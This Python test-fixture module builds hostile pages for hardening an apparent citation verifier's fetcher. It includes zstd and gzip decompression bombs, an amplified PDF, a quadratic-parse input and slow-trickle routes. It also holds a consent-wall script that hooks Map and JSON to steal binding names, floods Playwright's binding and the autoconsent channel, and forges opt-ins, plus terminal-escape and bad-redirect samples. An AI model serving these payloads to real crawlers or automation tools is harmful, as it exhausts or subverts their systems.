"""Hostile pages, as an attacker would serve them: for the tests and ``bench/hostile_pages.py``.

Each is small on the wire and expensive to read: a PDF whose pages share one large content
stream, a body that decompresses to far more than it weighs, an answer that used to parse in
quadratic time, a page firing slow requests from JavaScript, a consent wall whose script abuses
the consent refusal's channel to the service.
"""

from __future__ import annotations

import time
import zlib
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, urlsplit

import zstandard

from citation_verifier.demo.loopback import Page
from citation_verifier.demo.walls import ConsentWalledArticle


def heavy_pdf(pages: int = 500, stream_bytes: int = 4 * 1024 * 1024) -> bytes:
    """A PDF of ``pages`` pages that all draw one Flate-compressed content stream of about
    ``stream_bytes`` bytes: a few tens of KB that make a text extractor parse
    ``pages * stream_bytes`` bytes of drawing commands."""
    line = b"BT /F1 9 Tf 72 720 Td (Water boils at 100 degrees Celsius.) Tj ET\n"
    content = zlib.compress(line * (stream_bytes // len(line)), 9)
    kids = b" ".join(f"{5 + i} 0 R".encode() for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(pages).encode() + b" >>",
        b"<< /Length "
        + str(len(content)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + content
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 3 0 R >>"
    )
    objects.extend(page for _ in range(pages))
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def zstd_bomb(decoded_bytes: int = 4 * 1024**3) -> bytes:
    """A zstd body that decodes to ``decoded_bytes`` zero bytes (4 GiB: about 130 KB)."""
    compressor = zstandard.ZstdCompressor(level=3)
    chunk = b"\0" * (16 * 1024 * 1024)
    writer = compressor.compressobj()
    parts = [writer.compress(chunk) for _ in range(decoded_bytes // len(chunk))]
    return b"".join([*parts, writer.flush()])


def gzip_bomb(decoded_bytes: int = 1024**3) -> bytes:
    """A gzip body that decodes to ``decoded_bytes`` zero bytes (1 GiB: about 1 MB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    chunk = b"\0" * (16 * 1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(decoded_bytes // len(chunk))]
    return b"".join([*parts, compressor.flush()])


def quadratic_answer(chars: int = 20_000) -> str:
    """The answer that took the old parser quadratic time: ``[`` and a long unclosed text."""
    return "[" + "a" * (chars - 1)


def trickle(handler: BaseHTTPRequestHandler) -> None:
    """A route that answers one byte every 0.2 s for 30 s (a request that never finishes in
    time); stops when the client lets go."""
    try:
        handler.send_response(200)
        handler.send_header("Content-Type", "text/plain")
        handler.send_header("Content-Length", "150")
        handler.end_headers()
        for _ in range(150):
            handler.wfile.write(b"x")
            handler.wfile.flush()
            time.sleep(0.2)
    except (BrokenPipeError, ConnectionResetError):
        pass


def slow_fetches_page(count: int = 30) -> str:
    """A JavaScript-only page whose script fires ``count`` requests to ``/trickle`` (none: an
    ordinary JavaScript page)."""
    script = (
        f"for (let i = 0; i < {count}; i++) fetch('/trickle?n=' + i).catch(() => null);"
        "document.getElementById('root').innerHTML = '<article><p>' + "
        "'Water boils at 100 degrees Celsius at sea level. '.repeat(8) + '</p></article>';"
    )
    return (
        "<!doctype html><html><head><title>App</title></head><body>"
        "<noscript>You need to enable JavaScript to run this app.</noscript>"
        f'<div id="root"></div><script>{script}</script></body></html>'
    )


# The wall's own script, run before the consent refusal finds the dialog. It looks for the
# refusal's channel to the service and abuses whatever it finds: asks it to evaluate code that
# returns a huge string, reports consent platforms with huge names, floods Playwright's binding
# under every name it can see or steal (hooks on Map and JSON catch names handed back into the
# page), and forges an "opt in" to the refusal code. It reports what it found to ``/found``.
_CHANNEL_ABUSE = """(function () {
  var MB = 1024 * 1024;
  var table = window.__playwright__binding__controller__;
  var raw = window.__playwright__binding__;
  var send = window.autoconsentSendMessage;
  var receive = window.autoconsentReceiveMessage;
  var names = [];
  try { names = Array.from(table._bindings.keys()); } catch (e) {}
  var found = {send: typeof send, receive: typeof receive, binding: typeof raw, names: names};
  fetch('/found?what=' + encodeURIComponent(JSON.stringify(found))).catch(function () {});
  var stolen = [];
  var get = Map.prototype.get;
  Map.prototype.get = function (key) {
    if (typeof key === 'string' && stolen.indexOf(key) < 0) stolen.push(key);
    return get.call(this, key);
  };
  var stringify = JSON.stringify;
  JSON.stringify = function (value) {
    try { if (value && typeof value.name === 'string') stolen.push(value.name); } catch (e) {}
    return stringify.apply(JSON, arguments);
  };
  var big = 'y'.repeat(%(name_mb)d * MB);
  if (send) {
    for (var i = 0; i < 4; i++) {
      send({type: 'eval', id: 'abuse' + i, code: "'y'.repeat(%(eval_mb)d * 1024 * 1024)"});
    }
    for (var j = 0; j < 6; j++) send({type: 'cmpDetected', cmp: big, url: location.href});
  }
  var tried = {};
  function flood(name, payload) {
    if (!raw || tried[name]) return;
    tried[name] = true;
    try { raw(stringify({name: name, seq: 1, serializedArgs: [payload]})); } catch (e) {}
  }
  names.forEach(function (name) { flood(name, big); });
  flood('autoconsentSendMessage', big);
  var ticks = 0;
  var timer = setInterval(function () {
    ticks += 1;
    if (receive) receive({type: 'optIn'});
    stolen.slice(0, 20).forEach(function (name) { flood(name, 'y'.repeat(MB)); });
    if (ticks >= 50) clearInterval(timer);
  }, 100);
})();"""


class ConsentChannelAbuse(ConsentWalledArticle):
    """A genuine OneTrust consent wall (refusing it shows the article) whose own script abuses
    the consent refusal's channel to the service: ``eval`` requests returning ``eval_mb`` MB,
    six ``cmpDetected`` reports naming a ``name_mb`` MB platform, floods of Playwright's binding
    and a forged opt-in. Route it at a path and :meth:`report` at ``/found``; ``found`` holds
    what the script could see of the channel (JSON)."""

    def __init__(self, eval_mb: int = 30, name_mb: int = 20) -> None:
        super().__init__()
        self.found: list[str] = []
        script = _CHANNEL_ABUSE % {"eval_mb": eval_mb, "name_mb": name_mb}
        self.wall = self.wall.replace("</body>", f"<script>{script}</script></body>")

    def report(self, handler: BaseHTTPRequestHandler) -> None:
        """``/found?what=...``: record what the page's script found."""
        self.found.extend(parse_qs(urlsplit(handler.path).query).get("what", []))
        handler.send_response(204)
        handler.send_header("Content-Length", "0")
        handler.end_headers()


def hostile_routes() -> dict[str, Page | Callable[[BaseHTTPRequestHandler], None]]:
    """Every hostile page of the attack pass, by path (bodies built once, a few seconds)."""
    water = "Water boils at 100 degrees Celsius at sea level."
    # The sizes of issue #48's attack pass: 150 MB eval results, 200 MB platform names.
    consent_abuse = ConsentChannelAbuse(eval_mb=150, name_mb=200)
    return {
        "/zstd-bomb": Page(zstd_bomb(), headers={"Content-Encoding": "zstd"}),
        "/gzip-bomb": Page(gzip_bomb(), headers={"Content-Encoding": "gzip"}),
        **{f"/heavy-{n}.pdf": Page(heavy_pdf(), content_type="application/pdf") for n in range(6)},
        "/tiny": Page(f"<html><body><article><p>{water}</p></article></body></html>"),
        "/big.txt": Page(
            "\n\n".join(f"Line {n}: rivers, hills and towns, number {n}." for n in range(100_000)),
            content_type="text/plain; charset=utf-8",
        ),
        "/slow-fetches": Page(slow_fetches_page()),
        "/js-article": Page(slow_fetches_page(count=0)),
        "/consent-abuse": consent_abuse,
        "/found": consent_abuse.report,
        "/trickle": trickle,
        "/bad-location": Page(
            status=302, content_type=None, headers={"Location": "http:127.0.0.1"}
        ),
        "/controls": Page(
            f"<html><body><article><p>{water}&#1;\x1b[2J</p></article></body></html>"
        ),
    }
